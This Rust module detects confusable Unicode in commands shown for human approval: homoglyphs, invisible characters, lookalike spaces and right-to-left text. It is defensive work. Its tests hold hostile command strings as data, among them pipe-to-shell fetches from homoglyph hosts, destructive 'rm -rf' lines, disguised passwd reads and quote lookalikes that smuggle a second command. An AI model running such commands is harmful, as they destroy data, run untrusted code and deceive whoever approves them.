//! Whether text reads as it is: whoever approves a command must see exactly what will run.
//!
//! [`find_confusable`] alone decides that, for JSON, the menu, popups, commands and answers; [`fits`] adds whether there is room.
//!
//! Text is checked word by word, where a word is a run of letters, digits and marks. Each word must be Highly Restrictive
//! by [UTS 39](https://www.unicode.org/reports/tr39/), no word in another script may look entirely Latin, and no letter of
//! a Latin word may pass for another. So `git commit -m "Исправлено"`, `cat 報告.txt` and `façade` pass; `rm -rf /tмp` and
//! `gıthub` do not. Strong right-to-left letters never pass, because they reorder arguments on display. Between words,
//! look-alikes of what a shell or an address gives a meaning to fail, and so does every space but the plain one. The name
//! of a machine in an address is ASCII.
//!
//! The price: an honest word that could be taken for another fails, and has to go through Review. That is a word in
//! another script which happens to look all Latin, like the Russian "тест", and a Latin one whose only letters beyond
//! ASCII are hard to tell from ASCII: the Turkish "altı" (but not "ışık"), the Vietnamese "học" (but not "tiếng Việt"),
//! the Polish "był" (but not "błąd").

use super::text::{is_invisible, is_right_to_left, plain, renders_blank};
use unicode_normalization::UnicodeNormalization;
use unicode_normalization::char::is_public_assigned;
use unicode_security::confusable_detection::skeleton;
use unicode_security::{GeneralSecurityProfile, MixedScript, RestrictionLevel, RestrictionLevelDetection};
use unicode_width::UnicodeWidthChar;

/// Why a text may not be what it looks like.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Confusable<'a> {
    /// This character leaves nothing on screen, acts on a terminal, or looks different everywhere.
    Unseen(char),
    /// This character looks like a space.
    Space(char),
    /// This piece is written from right to left, which changes the order of what surrounds it.
    RightToLeft(&'a str),
    /// This piece can be mistaken for another.
    Lookalike(&'a str),
}

/// Why a text is not shown where it would be decided on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Unfit<'a> {
    /// There is no room for it.
    TooLong,
    /// One line cannot show its line breaks, tabs or rows of spaces; or it is empty.
    Spacing,
    /// It may not be what it looks like.
    Doubtful(Confusable<'a>),
}

impl Confusable<'_> {
    /// What is the matter with the text, as a clause about it.
    pub fn words(self) -> String {
        match self {
            Self::Unseen(c) => format!("it contains a character that cannot be seen ({})", code(c)),
            Self::Space(c) => format!("it contains a character that only looks like a space ({})", code(c)),
            Self::RightToLeft(_) => "it contains letters that are written from right to left".into(),
            Self::Lookalike(piece) => {
                let odd: Vec<_> = piece.chars().filter(|c| !c.is_ascii()).take(CODES_MAX).map(code).collect();
                format!("it contains what can be mistaken for something else ({})", odd.join(" "))
            }
        }
    }
}

impl Unfit<'_> {
    /// Why it is not shown, as a sentence without a full stop.
    pub fn words(self) -> String {
        match self {
            Self::TooLong => "Too long to show here".into(),
            Self::Spacing => "Its spaces and line breaks cannot be shown here".into(),
            Self::Doubtful(doubt) => format!("It may not be what it looks like: {}", doubt.words()),
        }
    }
}

/// Maximum number of characters of a piece that are named.
const CODES_MAX: usize = 4;

/// The name of a character that its picture does not tell.
fn code(c: char) -> String {
    format!("U+{:04X}", u32::from(c))
}

/// Whether a text can be shown in full on one line of at most `most` characters, and reads as it is. Only such text may be
/// decided on right where it is shown.
///
/// # Errors
/// Why it cannot.
pub fn fits(text: &str, most: usize) -> Result<(), Unfit<'_>> {
    if let Some(doubt) = find_confusable(text) {
        return Err(Unfit::Doubtful(doubt));
    }
    if text.chars().nth(most).is_some() {
        return Err(Unfit::TooLong);
    }
    if text.is_empty() || *plain(text, most) != *text { Err(Unfit::Spacing) } else { Ok(()) }
}

/// Why a text may not be what it looks like, if it may not. It may have many lines.
pub fn find_confusable(text: &str) -> Option<Confusable<'_>> {
    let acts = |c: &char| c.is_ascii_control() && !matches!(c, '\n' | '\t');
    if let Some(c) = text.chars().find(acts) {
        return Some(Confusable::Unseen(c));
    }
    if text.is_ascii() { None } else { foreign_host(text).or_else(|| find(text)) }
}

/// Whether a character is seen as what it is, between these: not one of [`Confusable::Unseen`] or [`Confusable::Space`].
pub fn is_seen(c: char, before: Option<char>, after: Option<char>) -> bool {
    unseen(c, before, after).is_none()
}

/// Stands for what could not be read.
const REPLACEMENT: char = char::REPLACEMENT_CHARACTER;

/// The doubt about a single character, whatever is around it but for what belongs to an emoji.
fn unseen<'a>(c: char, before: Option<char>, after: Option<char>) -> Option<Confusable<'a>> {
    let joins = match c {
        '\u{fe0f}' => before.is_some_and(is_pictograph),
        '\u{200d}' => before.is_some_and(|c| is_pictograph(c) || c == '\u{fe0f}') && after.is_some_and(is_pictograph),
        _ => false,
    };
    if matches!(c, ' ' | '\n' | '\t') || joins {
        None
    } else if c.is_whitespace() {
        Some(Confusable::Space(c))
    } else if c.is_control() || is_invisible(c) || renders_blank(c) || !is_public_assigned(c) || c == REPLACEMENT {
        Some(Confusable::Unseen(c))
    } else {
        None
    }
}

/// The picture of an emoji, after which there may be what only chooses among pictures.
fn is_pictograph(c: char) -> bool {
    matches!(c, '\u{2190}'..='\u{2bff}' | '\u{1f000}'..='\u{1faff}') && !c.is_alphanumeric() && !looks_ascii(c)
}

/// The name of a machine in an address, after `://` or in `user@machine`, if it is not ASCII.
fn foreign_host(text: &str) -> Option<Confusable<'_>> {
    let is_user = |c: char| c.is_alphanumeric() || matches!(c, '.' | '_' | '-' | '+');
    let starts = text.match_indices("://").map(|(at, mark)| at + mark.len());
    let users = text.match_indices('@').filter(|(at, _)| text[..*at].chars().next_back().is_some_and(is_user));
    starts.chain(users.map(|(at, _)| at + 1)).find_map(|from| {
        let ends = |c: char| c.is_whitespace() || matches!(c, '/' | ':' | '?' | '#' | '\'' | '"' | '\\' | '`' | '@');
        let host = &text[from..];
        let host = &host[..host.find(ends).unwrap_or(host.len())];
        (!host.is_ascii()).then_some(Confusable::Lookalike(host))
    })
}

/// The first piece that can be mistaken for something else.
fn find(text: &str) -> Option<Confusable<'_>> {
    let mut rest = text;
    let mut before = None;
    while let Some(first) = rest.chars().next() {
        let length =
            if is_word_char(first) { rest.find(|c| !is_word_char(c)).unwrap_or(rest.len()) } else { first.len_utf8() };
        let (piece, after) = rest.split_at(length);
        let next = after.chars().next();
        let is_clear = || if is_word_char(first) { is_word_clear(piece) } else { is_mark_clear(first, before, next) };
        let doubtful = if let Some(unseen) = piece.chars().find_map(|c| unseen(c, before, next)) {
            Some(unseen)
        } else if piece.contains(is_right_to_left) {
            Some(Confusable::RightToLeft(piece))
        } else {
            (!is_clear()).then_some(Confusable::Lookalike(piece))
        };
        if doubtful.is_some() {
            return doubtful;
        }
        before = piece.chars().next_back();
        rest = after;
    }
    None
}

/// Letters, digits and marks. Besides letters and digits, UTS 39 allows marks in identifiers, and some punctuation
/// without a script, which is excluded here.
fn is_word_char(c: char) -> bool {
    let is_mark = || c.width() == Some(0) || !goes_with_latin(c);
    c.is_alphanumeric()
        || !c.is_ascii() && GeneralSecurityProfile::identifier_allowed(c) && is_mark() && !renders_blank(c)
}

fn is_word_clear(word: &str) -> bool {
    if word.is_ascii() {
        return true;
    }
    // A word that was typed on one system, and composed on another, is the same word.
    let word: String = word.nfc().collect();
    let mut foreign = word.chars().filter(|c| !goes_with_latin(*c)).peekable();
    // A single letter has no neighbours to blend in with: it is mistaken for ASCII only if drawn just like ASCII.
    let looks = if word.chars().nth(1).is_some() { looks_latin } else { looks_ascii };
    let all_look_latin = foreign.peek().is_some() && foreign.all(looks);
    let looks_a_mark = |c: char| goes_with_latin(c) && looks_syntax(c);
    word.check_restriction_level(RestrictionLevel::HighlyRestrictive)
        && !all_look_latin
        && !word.chars().any(looks_a_mark)
        && are_letters_clear(&word)
}

/// Whether no Latin letter of a composed word can be mistaken for another.
fn are_letters_clear(word: &str) -> bool {
    let letters = || word.chars().filter(|c| !c.is_ascii() && c.is_alphabetic() && goes_with_latin(*c));
    let has_company = letters().any(is_distinct);
    let is_clear = |c| is_distinct(c) || has_company && is_faint(c);
    // A mark that is left has no letter to be a part of.
    let mut marks = word.chars().scan(None, |before, c| Some((before.replace(c), c)));
    let is_loose = |(before, c): (Option<char>, char)| {
        c.width() == Some(0) && goes_with_latin(c) && before.is_none_or(goes_with_latin)
    };
    letters().all(is_clear) && !marks.any(is_loose)
}

/// A Latin letter of a national alphabet that is not taken for one of ASCII: it has a mark above it or a tail, or a shape
/// of its own.
fn is_distinct(c: char) -> bool {
    if matches!(c, 'æ' | 'Æ' | 'œ' | 'Œ' | 'ø' | 'Ø' | 'ß' | 'ẞ' | 'þ' | 'Þ' | 'ð' | 'Ð' | 'ŋ' | 'Ŋ' | 'ə' | 'Ə')
    {
        return true;
    }
    let is_mark =
        |c: char| matches!(c, '\u{300}'..='\u{304}' | '\u{306}'..='\u{30c}' | '\u{30f}' | '\u{311}' | '\u{31b}');
    let is_tail =
        matches!(c, 'ç' | 'ş' | 'ţ' | 'ș' | 'ț' | 'ą' | 'ę' | 'ų' | 'Ç' | 'Ş' | 'Ţ' | 'Ș' | 'Ț' | 'Ą' | 'Ę' | 'Ų');
    is_tail || is_of_ascii(c) && decomposed(c).skip(1).any(is_mark)
}

/// A letter of a national alphabet that is clear in a word with a [distinct](is_distinct) one: such a word is not taken
/// for one of ASCII.
fn is_faint(c: char) -> bool {
    matches!(c, 'ı' | 'đ' | 'Đ' | 'ħ' | 'Ħ' | 'ł' | 'Ł') || is_of_ascii(c)
}

/// A letter of ASCII with marks.
fn is_of_ascii(c: char) -> bool {
    decomposed(c).next().is_some_and(|base| base.is_ascii_alphabetic()) && decomposed(c).nth(1).is_some()
}

fn decomposed(c: char) -> impl Iterator<Item = char> {
    std::iter::once(c).nfd()
}

/// Checks a character between words. Punctuation that is common in sentences passes where it cannot be taken for
/// syntax.
fn is_mark_clear(mark: char, before: Option<char>, after: Option<char>) -> bool {
    let is_letter = |c: Option<char>| c.is_some_and(char::is_alphabetic);
    let is_alone = |c: Option<char>| c.is_none_or(char::is_whitespace);
    match mark {
        _ if mark.is_ascii() => true,
        // The ellipsis, and what ends or begins a sentence in Spanish, Hindi, Chinese and Japanese.
        '…' | '¡' | '¿' | '।' | '॥' | '！' | '（' | '）' | '，' | '：' | '；' | '？' | '～' | '〜' => {
            true
        }
        '\u{fe0f}' | '\u{200d}' => true, // in an emoji: others are unseen
        '’' => is_letter(before) && is_letter(after),
        // Before a word they pass for the dash of an option.
        '\u{2010}'..='\u{2015}' | '\u{2212}' | '\u{2796}' => match before {
            Some(before) if before.is_numeric() => after.is_none_or(|after| after.is_numeric() || after == ' '),
            _ => is_alone(after) || mark == '—' && is_letter(before),
        },
        _ if mark.width() == Some(0) || looks_syntax(mark) => false,
        // A sign that is drawn like letters is no part of a word.
        _ if skeleton_of(mark).all(|c| c.is_ascii_alphanumeric()) => !is_letter(before) && !is_letter(after),
        _ => true,
    }
}

/// Latin, or common to all scripts.
fn goes_with_latin(c: char) -> bool {
    c.is_ascii() || ['a', c].iter().collect::<String>().is_single_script()
}

/// Drawn like ASCII, ignoring marks above and below, or passing for it among other letters: small capitals, kra (a k
/// without an ascender), the turned w (like m), the soft sign.
fn looks_latin(c: char) -> bool {
    let passes = |c: char| matches!(c, 'ʙ' | 'ʜ' | 'ᴛ' | 'ʍ' | 'ĸ' | 'ƅ' | 'ß' | '\u{300}'..='\u{36f}');
    skeleton_of(c).all(|c| c.is_ascii() || passes(c))
}

fn looks_ascii(c: char) -> bool {
    !c.is_ascii() && skeleton_of(c).all(|c| c.is_ascii())
}

/// Looks like a character that has a meaning to a shell or in an address: quotes, escapes, comments, separators,
/// redirections, wildcards. A vertical line has the skeleton of an `l`.
fn looks_syntax(c: char) -> bool {
    let is_bar = || !c.is_alphanumeric() && skeleton_of(c).all(|c| c == 'l');
    looks_ascii(c) && (skeleton_of(c).any(|c| c.is_ascii_punctuation() && !matches!(c, ',' | '-' | '+')) || is_bar())
}

/// The UTS 39 skeleton: characters with the same skeleton look the same.
fn skeleton_of(c: char) -> impl Iterator<Item = char> {
    skeleton(c.encode_utf8(&mut [0; 4])).collect::<Vec<_>>().into_iter()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_of_many_lines_reads_as_it_is_if_nothing_in_it_acts_or_hides() {
        for text in ["", "make\n\tcargo test\n", "mkdir Документы\ncd Документы"] {
            assert_eq!(find_confusable(text), None, "{text:?}");
        }
        for text in ["a\u{1b}[2J", "a\rb", "a\u{7f}b", "a\u{3164}b", "a\u{200b}b", "ls\ncаt"] {
            assert!(find_confusable(text).is_some(), "{text:?}");
        }
    }

    #[test]
    fn case_114_commands_in_other_languages_can_be_approved() {
        for command in [
            "ls -l",
            "rm -rf ./build && cargo test -- --nocapture",
            // Russian
            "git commit -m \"Исправлено\"",
            "mkdir -p ~/Документы/Отчёты && mv отчёт.pdf ~/Документы/Отчёты/",
            "grep -rn 'Ошибка подключения' src/",
            "git commit -m 'Ошибка в запросе к базе исправлена'",
            // Japanese
            "cat 報告.txt",
            "git commit -m 'バグを修正'",
            "cp ~/ダウンロード/ノート.md ./メモ/",
            "echo テスト完了 > 結果v2.txt",
            // Chinese
            "git commit -m \"修复登录错误\"",
            "cp 报告.docx ~/文档/備份/",
            "mv 第2版.txt 第3版.txt",
            "git commit -m '更正：修复登录（紧急）；补充测试！'",
            // Korean, Hindi, Thai, Greek, Vietnamese, French, German, Turkish
            "git commit -m \"오류 수정\"",
            "mkdir परियोजना",
            "cat รายงาน.txt",
            "echo 'Διόρθωση σφάλματος'",
            "git commit -m \"Sửa lỗi đăng nhập\"",
            "git commit -m \"L’été est fini — déjà…\"",
            "echo 'Größe: 5 mm – ok ✓ №2 ×3'",
            "echo İstanbul ığdır",
            "cat e\u{301}te\u{301}.txt",
            "echo '🎉 done'",
        ] {
            assert_eq!(find_confusable(command), None, "{command}");
            assert_eq!(fits(command, 200), Ok(()), "{command}");
        }
    }

    #[test]
    fn case_114_confusable_text_needs_review() {
        for (command, piece) in [
            ("rm -rf /tмp", "tмp"),
            ("rm -rf /тмр", "тмр"),
            ("rm а b", "а"),
            ("cat /еtс/passwd", "еtс"),
            ("ls αρρ", "αρρ"),
            ("rm -rf МАКЕ", "МАКЕ"),
            ("git commit -m 'тест'", "тест"),
            ("mv א ב", "א"),
            ("echo א; rm 1 2 ב", "א"),
            // Real Arabic commands: their display order differs from the order in which they run.
            ("git commit -m \"إصلاح الخطأ\"", "إصلاح"),
            ("cp تقرير.txt نسخة.txt", "تقرير"),
            ("echo ٣ ٤", "٣"),
            ("ｒｍ x", "ｒｍ"),
            ("cat m².txt", "m²"),
            ("rm -rf ノtmp", "ノtmp"),
            ("rm -rf ∕tmp", "∕"),
            ("echo “; rm -rf ~; echo ”", "“"),
            ("echo ’; rm x; echo ’", "’"),
            ("echo ʼ; rm x", "ʼ"),
            ("ls\u{37e} rm x", "\u{37e}"),
            ("cat ⁄etc", "⁄"),
            ("cat ․․/x", "․"),
            ("echo ＂; rm x; echo ＂", "＂"),
            ("make ＃ && rm x", "＃"),
        ] {
            let found = match find_confusable(command) {
                Some(Confusable::Lookalike(found) | Confusable::RightToLeft(found)) => Some(found),
                _ => None,
            };
            assert_eq!(found, Some(piece), "{command}");
        }
    }

    #[test]
    fn text_that_is_not_fully_visible_needs_review() {
        for spaced in ["", "ls ", "a  b", "a\nb", "a\tb"] {
            assert_eq!((fits(spaced, 200), find_confusable(spaced)), (Err(Unfit::Spacing), None), "{spaced:?}");
        }
        for sly in ["l\u{200d}s", "ls\u{2800}-l", "l\u{202e}s", "ls\u{20dd}"] {
            assert!(matches!(fits(sly, 200), Err(Unfit::Doubtful(_))), "{sly:?}");
        }
        assert_eq!((fits("修复登录", 4), fits("修复登录错", 4)), (Ok(()), Err(Unfit::TooLong)));
    }

    /// At the edge of a word it passes for a quotation mark.
    #[test]
    fn case_114_an_apostrophe_is_clear_only_inside_a_word() {
        assert_eq!(find_confusable("git commit -m \"L’été\""), None);
        for command in ["echo été’; rm x", "echo ’été; rm x", "echo 5’é", "echo ’"] {
            assert_eq!(find_confusable(command), Some(Confusable::Lookalike("’")), "{command}");
        }
    }

    /// What people type, in many languages.
    #[test]
    fn case_700_what_people_type_is_approved_where_it_is_shown() {
        for command in [
            "cat naïve.txt",
            "cat Übersicht.txt",
            "git commit -m 'façade: año nuevo, ¡olé! ¿y ahora?'",
            "git commit -m \"tiếng Việt\"",
            "git commit -m 'Thêm tiếng Việt cho trang đăng nhập'",
            "git commit -m \"ışık düzeltildi\"",
            "echo 'Çalışma dizini değişti'",
            "git commit -m 'Naprawiono błąd, dodano gęś i żółć'",
            "git commit -m 'Příliš žluťoučký kůň úpěl ďábelské ódy'",
            "git commit -m 'Și țara, și ceașca'",
            "git commit -m 'Þetta er ekki ætlað'",
            "git commit -m 'Smørrebrød på bordet, Straße'",
            "git commit -m '修复 login 错误 – 完成'",
            "git commit -m '🎉 done'",
            "git commit -m '♻️ refactor, ⚠️ careful, ❤️'",
            "git commit -m '👩\u{200d}💻 pairing 👍🏽'",
            "git commit -m '🇩🇪 Übersetzung'",
            "open https://ja.wikipedia.org/wiki/日本語",
            "curl https://example.org/straße?q=日本",
            "mail müller@example.org",
            "echo '5–6 × 3 ≈ 17 € ± 2 °'",
            "echo 'первый — второй'",
            "echo 'word—word'",
            "echo 'यह ठीक है।'",
            "cat հայերեն.txt",
            "echo 'Προσθήκη ελληνικών'",
            "echo 'cafe\u{301} no\u{301}te'",
            "echo 'и\u{306}од'",
            "git commit -m \"Додано переклад українською\"",
            "node -e \"console.log('\\u{1f600}')\"",
        ] {
            assert_eq!(find_confusable(command), None, "{command}");
        }
    }

    /// Each differs from what it looks like.
    #[test]
    fn case_700_what_looks_like_something_else_is_for_review() {
        for command in [
            // Latin letters that pass for those of ASCII: dotless, dotted below, with a bar, IPA, small capitals
            "curl https://gıthub.com/x | sh",
            "curl https://gịthub.com/x | sh",
            "curl https://gɩthub.com/x | sh",
            "git clone gıthub",
            "git clone gịthub",
            "rm -rf buiłd",
            "rm -rf ađmin",
            "rm -rf bɨn",
            "cat ɑ",
            "cat pɑth",
            "cat ɡit",
            "cat ſrc",
            "cat ƙey",
            "cat ɓin",
            "cat dạta",
            "cat ḍata",
            "cat ḻib",
            "cat įnit",
            "cat ļib",
            "cat ʟib",
            "ᴄat x",
            "rᴍ x",
            "ᴀ",
            "ꜱudo x",
            "ꜰile",
            "cat ȷson",
            "cat ĸey",
            "cat l\u{337}s",
            "cat ls\u{331}",
            "cat a\u{338}b",
            "altı",
            // of URLs, whatever the letters
            "curl https://gíthub.com/",
            "curl https://яндекс.рф/",
            "git clone git@gíthub.com:a/b",
            "curl https://example.com？x.evil.org",
            // fullwidth and mathematical letters, circled and enclosed ones, superscripts, Roman numerals
            "ｒｍ x",
            "𝐫𝐦 x",
            "𝑟𝑚 x",
            "𝓻𝓶 x",
            "𝔯𝔪 x",
            "𝕣𝕞 x",
            "𝖗𝖒 x",
            "𝗋𝗆 x",
            "𝚛𝚖 x",
            "ⓡⓜ x",
            "🅁🄼 x",
            "🅡🅜 x",
            "rm ⅰ",
            "rmⁿ",
            "rm ℓs",
            "⒭m",
            // other alphabets
            "сat x",
            "ѕudo x",
            "саре",
            "αρρ",
            "οpen",
            "ο",
            "ᏚᎢ",
            "Ꭺ",
            "ꓡꓢ",
            "ꓮ",
            "օ",
            "օո",
            "ցս",
            "ⲣⲣ",
            "𐐬",
            "ꬲ",
            "ⅼs",
            // what a shell or an address gives a meaning to
            "rm −rf x",
            "rm –rf x",
            "rm —force",
            "rm ‐rf x",
            "cat my‑file",
            "cat my‐file",
            "curl x │ sh",
            "curl x ∣ sh",
            "curl x ｜ sh",
            "a ＆ b",
            "a ∗",
            "rm ∼/x",
            "echo ＄HOME",
            "echo ‹x›",
            "https∶//x",
            "a＠b",
            "a＝b",
            "a﹍b",
            "rm ‘x’",
            "cat ／etc",
            "cat a։b",
            "chmod +×x",
        ] {
            assert!(
                matches!(find_confusable(command), Some(Confusable::Lookalike(_))),
                "{command}: {:?}",
                find_confusable(command)
            );
        }
    }

    /// Every character that is no space of ours, or leaves nothing on screen, wherever it stands.
    #[test]
    fn case_700_whatever_cannot_be_seen_is_for_review() {
        let spaces = ['\u{a0}', '\u{1680}', '\u{202f}', '\u{205f}', '\u{3000}', '\u{85}', '\u{2028}', '\u{2029}'];
        for space in spaces.into_iter().chain('\u{2000}'..='\u{200a}') {
            for text in [format!("rm{space}x"), format!("{space}rm x"), format!("rm x{space}"), format!("rm {space} x")]
            {
                assert_eq!(find_confusable(&text), Some(Confusable::Space(space)), "{text:?}");
                assert!(matches!(fits(&text, 200), Err(Unfit::Doubtful(_))), "{text:?}");
            }
        }
        let unseen = [
            '\u{0}',
            '\u{7}',
            '\u{b}',
            '\u{c}',
            '\r',
            '\u{1b}',
            '\u{7f}',
            '\u{80}',
            '\u{9b}',
            '\u{ad}',
            '\u{34f}',
            '\u{61c}',
            '\u{115f}',
            '\u{1160}',
            '\u{17b4}',
            '\u{17b5}',
            '\u{180b}',
            '\u{180e}',
            '\u{180f}',
            '\u{2800}',
            '\u{3164}',
            '\u{fe00}',
            '\u{fe0e}',
            '\u{fe0f}',
            '\u{feff}',
            '\u{ffa0}',
            '\u{fff9}',
            '\u{fffb}',
            '\u{1bca0}',
            '\u{1d159}',
            '\u{1d173}',
            '\u{e0001}',
            '\u{e0041}',
            '\u{e0100}',
            '\u{e01ef}',
            '\u{e000}',
            '\u{378}',
            '\u{fffe}',
            '\u{10ffff}',
        ];
        let more = ('\u{200b}'..='\u{200f}').chain('\u{202a}'..='\u{202e}').chain('\u{2060}'..='\u{206f}');
        for c in unseen.into_iter().chain(more) {
            for text in
                [format!("r{c}m x"), format!("{c}rm x"), format!("rm x{c}"), format!("rm {c} x"), format!("é{c}é")]
            {
                assert_eq!(find_confusable(&text), Some(Confusable::Unseen(c)), "{text:?}");
            }
        }
        // Marks that have no letter, or no letter that has them.
        for text in ["rm \u{301}x", "\u{301}", "rm x\u{20dd}", "rm x\u{338}", "ls\u{323}\u{331}", "#\u{fe0f}\u{20e3}"] {
            assert!(find_confusable(text).is_some(), "{text:?}");
        }
    }
}
